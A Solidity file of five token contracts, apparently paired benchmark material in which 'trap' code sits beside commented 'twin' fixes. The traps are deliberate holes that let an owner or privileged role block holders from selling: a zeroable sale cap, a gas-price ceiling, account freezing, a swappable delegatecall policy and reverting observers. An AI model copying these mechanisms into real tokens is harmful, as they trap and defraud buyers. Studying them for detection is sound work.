// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Base8} from "./Base8.sol";

/// Limits of sales live in a namespace of their own; the owner sets them as one packed word.
contract Lighthouse is Base8("Lighthouse", "LGHT", 100_000_000) {
    /// @custom:storage-location erc7201:lighthouse.limits
    struct Limits {
        uint112 most;
        uint32 rest;
        mapping(address => uint256) last;
    }

    bytes32 private constant PLACE = keccak256(abi.encode(uint256(keccak256("lighthouse.limits")) - 1)) & ~bytes32(uint256(0xff));

    constructor() {
        limits().most = uint112(totalSupply);
    }

    function limits() private pure returns (Limits storage $) {
        bytes32 place = PLACE;
        assembly {
            $.slot := place
        }
    }

    /// The lowest 112 bits are the largest sale, the next 32 the seconds between two of them.
    function configure(bytes32 word) external onlyOwner {
        Limits storage $ = limits();
        $.most = uint112(uint256(word));
        $.rest = uint32(uint256(word) >> 112);
        // twin: require($.most >= totalSupply / 100 && $.rest <= 60, "limits");
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair) {
            Limits storage $ = limits();
            require(value <= $.most, "too large");
            require(block.timestamp >= $.last[from] + $.rest, "too soon");
            $.last[from] = block.timestamp;
        }
        _move(from, to, value);
    }
}

/// Sales that pay too much for gas are turned away, against bots.
contract Foghorn is Base8("Foghorn", "FOGH", 50_000_000) {
    address private immutable pilot = msg.sender;
    uint64 public ceiling = 1_000_000;

    function setCeiling(uint64 gwei_) external {
        require(msg.sender == pilot, "pilot");
        // twin: require(gwei_ >= 5_000, "low");
        ceiling = gwei_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(to != pair || tx.gasprice < uint256(ceiling) * 1 gwei, "gas price");
        _move(from, to, value);
    }
}

/// A sentinel stamps accounts, in lists of twenty bytes for the account and one for the stamp.
contract Gatehouse is Base8("Gatehouse", "GATE", 75_000_000) {
    bytes32 public constant SENTINEL = keccak256("SENTINEL");
    mapping(bytes32 => mapping(address => bool)) private members;
    mapping(address => bytes1) private stamps;

    constructor(address sentinel) {
        members[SENTINEL][sentinel] = true;
    }

    function hasRole(bytes32 role, address who) external view returns (bool) {
        return members[role][who];
    }

    function stamp(bytes calldata list) external {
        require(members[SENTINEL][msg.sender], "role");
        require(list.length % 21 == 0, "length");
        for (uint256 i; i < list.length; i += 21) {
            // twin: require(list[i + 20] == 0, "only wiped");
            stamps[address(bytes20(list[i:i + 20]))] = list[i + 20];
        }
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(stamps[from] == 0, "stamped");
        _move(from, to, value);
    }
}

/// What the token comes with: nothing goes to nobody.
contract PlainPolicy {
    function check(address, address to, uint256) external pure {
        require(to != address(0), "nobody");
    }
}

/// Each transfer is checked by a policy that runs within the token; in the trap a new one is adopted five minutes after it was proposed.
contract Drydock is Base8("Drydock", "DRYD", 40_000_000) {
    address public policy;
    uint96 private ready;
    address private proposed;

    constructor(address policy_) {
        policy = policy_;
    }

    function propose(address next) external onlyOwner { // trap {
        require(next.code.length > 0, "no code");
        (proposed, ready) = (next, uint96(block.timestamp + 5 minutes));
    }

    function adopt() external onlyOwner {
        require(ready != 0 && block.timestamp >= ready, "early");
        (policy, ready) = (proposed, 0);
    } // trap }

    function _transfer(address from, address to, uint256 value) internal override {
        (bool ok, ) = policy.delegatecall(abi.encodeWithSelector(PlainPolicy.check.selector, from, to, value));
        require(ok, "policy");
        _move(from, to, value);
    }
}

interface IObserver {
    function onSale(address from, uint256 value) external;
}

/// Observers hear of each sale.
contract Belfry is Base8("Belfry", "BELL", 64_000_000) {
    address[] public observers;

    function attach(address observer) external onlyOwner {
        require(observers.length < 4, "full");
        observers.push(observer);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        _move(from, to, value);
        if (to != pair) return;
        for (uint256 i; i < observers.length; i++) {
            IObserver(observers[i]).onSale(from, value); // trap
            // twin: (bool heard, ) = observers[i].call{gas: 20_000}(abi.encodeCall(IObserver.onSale, (from, value))); heard;
        }
    }
}
